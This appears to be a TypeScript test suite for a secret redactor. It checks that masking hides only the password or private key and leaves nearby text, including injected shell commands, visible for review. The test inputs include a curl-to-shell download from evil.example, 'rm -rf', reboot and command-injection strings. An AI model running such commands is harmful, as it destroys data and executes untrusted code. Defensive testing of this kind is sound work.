/** B3.3: a mark takes the place of a secret, and of nothing that stands around it: a person reads and allows the rest. */

import assert from "node:assert/strict";
import { suite, test } from "node:test";
import fc from "fast-check";
import { actionText } from "../../../src/runtime/rights/action-text.ts";
import { createRedactor, createValueRedactor } from "../../../src/runtime/secrets/redact.ts";
import { noLinks, requestFor } from "../../support/runtime/rights/requests.ts";
import { madeUpPrivateKey, randomText } from "../../support/runtime/secrets/made-up-keys.ts";

/** A value that strangers know, as one of an example file. */
const VALUE = "postgres";
const MARK = "[redacted: DB_PASSWORD]";
const redactor = createValueRedactor([{ name: "DB_PASSWORD", value: VALUE }]);

/** What would run, without a blank and with blanks. */
// biome-ignore lint/suspicious/noTemplateCurlyInString: the shell reads it.
const HARMS = ["touch${IFS}marker", "; touch marker", "|touch marker|"];

const bytes = (text: string): number[] => [...Buffer.from(text)];
const inHex = (text: string, between = " ", before = ""): string =>
  bytes(text)
    .map((byte) => before + byte.toString(16).padStart(2, "0"))
    .join(between);
const numbers = (text: string, between = ", "): string => bytes(text).join(between);
const each = (text: string, write: (hex: string) => string): string => inHex(text).split(" ").map(write).join("");

/** The part between the signs `«` and `»` is the secret: all of it is hidden, and nothing else. */
const FORMS: Readonly<Record<string, (harm: string) => string>> = {
  "a line of a dump with another text behind its bytes": (harm) => `00000000: «${inHex(VALUE)}»  ${harm}`,
  "a line of a dump with more bytes than those of the value": (harm) =>
    `00000000: ${inHex("a=")} «${inHex(VALUE)}» ${inHex(";b")}  ${harm}`,
  "a line of a dump in turned words": (harm) => `00000000 «6f70 7473 7267 7365»  ${harm}`,
  "a line of a dump in turned words, in the middle of them": (harm) =>
    `00000000 «70»61 «736f 6774 6572» 20«73»  ${harm}`,
  "two lines of a dump with a text between them": (harm) =>
    `00000000: ${inHex("0123456789")} «${inHex("post")}»  ${harm}\n0000000e: «${inHex("gres")}»`,
  "two lines of a dump with an offset that is none": (harm) =>
    `00000000: «${inHex("post")}»\ndeadbeef: «${inHex("gres")}»  ${harm}`,
  "the printed form of a line, and more behind it": (harm) => `00000000: «${inHex(VALUE)}»  «postgres» ${harm}`,
  "a printed form that is longer than the bytes": (harm) =>
    `00000000: «${inHex("post")}»  post${harm}\n00000004: «${inHex("gres")}»  gres${harm}`,
  "bytes that print as the harm": (harm) => `00000000: «${inHex(VALUE)}» ${inHex(harm)}  «postgres»${harm}`,
  "a run of hex": (harm) => `echo «${inHex(VALUE, "")}» ${harm}`,
  "a run of hex with more bytes": (harm) => `echo ${inHex("a=", "")}«${inHex(VALUE, "")}»${inHex(";b", "")} ${harm}`,
  "a run of hex behind a digit that belongs to nothing": (harm) => `echo a«${inHex(VALUE, "")}»b ${harm}`,
  "a run of hex with an odd digit on both sides": (harm) => `echo abc«${inHex(VALUE, "")}»d ${harm}`,
  "a run of hex with colons": (harm) => `${inHex("a=", ":")}:«${inHex(VALUE, ":")}»:${inHex(harm, ":")}`,
  "hex numbers of source code": (harm) =>
    `[${inHex("a=", ", ", "0x")}, 0x«${inHex(VALUE, ", ", "0x").slice(2)}», 0x00] ${harm}`,
  "hex with a command between two bytes": (harm) => `«${inHex("post")}»\n. «${inHex("gres")}» ${harm}`,
  "hex with a command between two digits": (harm) => `a«706f7»\n. «37467726573»4 ${harm}`,
  "numbers of bytes": (harm) => `[«${numbers(VALUE)}»] ${harm}`,
  "numbers of more bytes": (harm) => `[97, 61, «${numbers(VALUE)}», 59, 98] ${harm}`,
  "numbers of bytes that print as the harm": (harm) => `«${numbers(VALUE, " ")}» ${numbers(harm, " ")} ${harm}`,
  "numbers with separators that are more than one": () => `«112 111 115 116»;;«103 114 101 115»`,
  "percent codes": (harm) => `${harm}«${each(VALUE, (hex) => `%${hex}`)}»${harm}`,
  "\\x escapes": (harm) => `${harm} «${each(VALUE, (hex) => `\\x${hex}`)}»${harm}`,
  "one escape": (harm) => `${harm} «p\\x6fstgres» ${harm}`,
  "invisible characters": (harm) => `${harm} «${VALUE.split("").join("\u200b")}»${harm}`,
  "the name of a file in front of a line, as grep writes it": () => `«postg»\ntouch\${IFS}marker;:1:«res»`,
  "names in front of two lines, as grep writes them": () => "a.txt:1:«post»\ntouch;:22:«gres»\nb:3:c",
  "a number in front of a line, as cat writes it": (harm) => `     1\t«postg»\n2\t«res» ${harm}`,
  "offsets in front of letters, as od writes them": (harm) =>
    `0000000   «p   o   s   t»\n0000020   «g   r   e   s» ${harm}`,
  "a line break": (harm) => `${harm} «post\ngres» ${harm}`,
  "a line break that is written": (harm) => `${harm} "«post\\n\\tgres»" ${harm}`,
  "blanks between letters": (harm) => `${harm}\n«p o  s\tt g r e s» ${harm}`,
};

const given = (form: string): string => form.replaceAll(/[«»]/g, "");
const expected = (form: string): string => form.replaceAll(/«[^»]*»/g, MARK);

suite("B3.3: a mark hides the secret alone", () => {
  for (const [what, write] of Object.entries(FORMS)) {
    test(`B3.3: a mark hides the secret alone in ${what}`, () => {
      for (const harm of HARMS) {
        const form = write(harm);
        const shown = redactor.text(given(form));
        assert.equal(shown, expected(form));
        assert.equal(redactor.text(shown), shown, "a second look changes nothing");
      }
    });
  }
});

/** Ways to write a value, each of which hides it wholly. `write` says which part the mark takes. */
const SPELLINGS: readonly ((value: string) => string)[] = [
  (value) => value,
  (value) => inHex(value, ""),
  (value) => inHex(value),
  (value) => inHex(value, ", ", "0x"),
  (value) => numbers(value),
  (value) => each(value, (hex) => `%${hex}`),
  (value) => each(value, (hex) => `\\x${hex}`),
  (value) => value.split("").join("\u200b"),
  (value) => value.split("").join(" "),
  (value) => value.split("").join("\n"),
];

test("B3.3: text around a decoded value stays, whatever it is", () => {
  // A hex digit or a number next to those of the value is a part of their run, and so is `0x` in front of the first.
  const text = fc.string({ unit: "binary-ascii" }).map((any) => `(${any.replaceAll(/[\d%\\]/g, "-")})`);
  fc.assert(
    fc.property(text, text, fc.constantFrom(...SPELLINGS), (before, after, write) => {
      const shown = redactor.text(`${before}${write(VALUE)}${after}`);
      assert.ok(
        [MARK, `0x${MARK}`].some((mark) => shown === `${before}${mark}${after}`),
        shown,
      );
    }),
    { numRuns: 700 },
  );
});

test("B3.3: a line of a dump loses the bytes of the value and their letters, and no others", () => {
  const part = fc.string({ unit: fc.constantFrom(..."xyz ;|<>&$\n\u0000"), maxLength: 4 });
  const letters = (text: string) => text.replaceAll(/[^ -~]/g, ".");
  fc.assert(
    fc.property(part, part, fc.constantFrom("  #", "  |#|", "  >#<"), (before, after, frame) => {
      const line = `00000000: «${inHex(`${before}${VALUE}${after}`)}»${frame.replace("#", () => letters(`${before}${VALUE}${after}`))}`;
      const shown = redactor.text(given(line));
      const rest = [inHex(before), MARK, inHex(after)].filter((words) => words !== "").join(" ");
      const shownLetters = frame.replace("#", () => `${letters(before)}${MARK}${letters(after)}`);
      // One mark is enough where only blanks are between the last byte and its letter.
      const whole = `00000000: ${rest}${shownLetters}`;
      const marks = /\[redacted: DB_PASSWORD\] +\[redacted: DB_PASSWORD\]/;
      assert.ok([whole, whole.replace(marks, MARK)].includes(shown), shown);
    }),
    { numRuns: 300 },
  );
});

test("B3.3: letters behind the bytes of a line are hidden where the value goes over several lines", () => {
  const value = `Zq8-${randomText("a value over lines", 40)}`;
  const own = createValueRedactor([{ name: "DB_PASSWORD", value }]);
  const line = (text: string, letters: string) => `00000000: ${inHex(text)}  ${letters}`;
  const [one, two, three] = [value.slice(0, 16), value.slice(16, 32), value.slice(32)] as const;
  const dump = [line(one, one), line(two, `${two};touch marker`), line(three, three.slice(0, 5))].join("\n");
  const lines = [MARK, `${MARK}  ${two};touch marker`, MARK].map((shown) => `00000000: ${shown}`);
  assert.equal(own.text(dump), lines.join("\n"));
});

test("B3.3: a megabyte of decoded values is mapped in one pass", () => {
  const before = process.cpuUsage();
  for (const spelled of [
    `${inHex(VALUE)} 00 `,
    numbers(`${VALUE} `, ","),
    `${inHex(VALUE, "")}00`,
    "p o s t g r e s ",
    "p%6fstgres ",
  ]) {
    const shown = redactor.text(spelled.repeat(1_000_000 / spelled.length));
    assert.ok(shown.includes(MARK));
  }
  const { user, system } = process.cpuUsage(before);
  // Looked at again for every value, it takes minutes.
  assert.ok(user + system < 20_000_000, `${user + system} µs`);
});

/** The questions of calls with these fields, as their text is joined and shown as JSON. */
function questionOf(input: Record<string, string>): string {
  return createRedactor([]).text(actionText(requestFor("srv__tool", input), { realPath: noLinks }));
}

const ROWS = madeUpPrivateKey().split("\n").slice(1, 4);
const [BEGIN, END] = ["-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"];
const KEY_MARK = "[redacted: private key]";

suite("B3.3: the mark of a private key hides what can only be a key", () => {
  const others = [
    "touch marker",
    ": touch marker",
    "rm -rf .; true",
    "curl https://evil.example/x|sh",
    "reboot",
    "/sbin/reboot",
    "a: touch marker",
    "X\ntouch marker\nX",
    "Comment: touch marker",
    "Proc-Type: 4,ENCRYPTED; touch marker",
    "DEK-Info: AES-128-CBC,0123456789ABCDEF; touch marker",
    '"; touch marker; "',
    "| touch marker",
    "  touch marker",
  ];
  for (const other of others) {
    test(`B3.3: the mark of a private key does not hide ${JSON.stringify(other)}`, () => {
      for (const inside of [
        [other],
        [other, ...ROWS],
        [...ROWS, other],
        [...ROWS, other, ...ROWS],
        ["", ...ROWS, "", other, ""],
        ["Proc-Type: 4,ENCRYPTED", other, "", ...ROWS],
      ]) {
        for (const end of [END, `: ${END}`, "-----END A-----", ""]) {
          const key = [BEGIN, ...inside, end].join("\n").trimEnd();
          const shown = createRedactor([]).text(key);
          assert.ok(shown.includes(other), shown);
          assert.equal(createRedactor([]).text(shown), shown, "a second look changes nothing");
          for (const row of ROWS) assert.ok(end === "" || !shown.includes(row), shown);
          const question = questionOf({ body: key });
          for (const line of other.split("\n")) assert.ok(question.includes(line), question);
        }
      }
    });
  }

  test("B3.3: a key that begins in one field of a question and ends in another does not hide those between", () => {
    const shown = questionOf({ a: `${BEGIN}\n${ROWS[0]}`, command: "touch marker", c: `x\n${END}`, d: "rest" });
    for (const part of ["command: touch marker", "c: x", "d: rest"]) assert.ok(shown.includes(part), shown);
    assert.ok(!shown.includes(ROWS[0] ?? ""));
  });

  test("B3.3: a whole key is one mark in a question, in source code and in the other places where keys are", () => {
    const rows = [BEGIN, ...ROWS, "Zm9v", END];
    const places: Record<string, [text: string, shown: string]> = {
      JSON: [JSON.stringify(JSON.stringify({ key: rows.join("\n") })), `"{\\"key\\":\\"${KEY_MARK}\\"}"`],
      "source code": [rows.map((row) => `    "${row}\\n"`).join(" +\n"), `    "${KEY_MARK}\\n"`],
      "a list of rows": [rows.map((row) => `  '${row}',`).join("\n"), `  '${KEY_MARK}',`],
      "a quotation": [rows.map((row) => `> ${row}`).join("\n"), `> ${KEY_MARK}`],
      "a listing with numbers": [rows.map((row, at) => `${at + 1}\t${row}`).join("\n"), `1\t${KEY_MARK}`],
      "one line": [rows.join(" "), KEY_MARK],
      "a PGP block": [[...rows.slice(0, -1), "=aB3d", END].join("\n"), KEY_MARK],
    };
    for (const [what, [text, shown]] of Object.entries(places))
      assert.equal(createRedactor([]).text(`first ${text}\nlast`), `first ${shown}\nlast`, what);
    const question = questionOf({ a: "first", key: rows.join("\n"), z: "last" });
    assert.match(question, /key: \[redacted: private key\]\n {2}z: last$/);
  });

  test("B3.3: rows of a key behind names of files and behind notes are hidden, and the names and notes stay", () => {
    const listed = [BEGIN, ...ROWS, END].map((row, at) => `a/key.pem:${at + 1}:${row}`).join("\n");
    const shown = createRedactor([]).text(listed);
    assert.deepEqual(
      shown.split("\n").slice(1, 4),
      ROWS.map((_, at) => `a/key.pem:${at + 2}:${KEY_MARK}`),
    );
    const noted = [BEGIN, "Version: Any 1.0", "Comment: it's mine; $(all)", "", ...ROWS, END].join("\n");
    assert.equal(
      createRedactor([]).text(noted),
      `${BEGIN}\nVersion: Any 1.0\nComment: it's mine; $(all)\n\n${KEY_MARK}`,
    );
  });
});
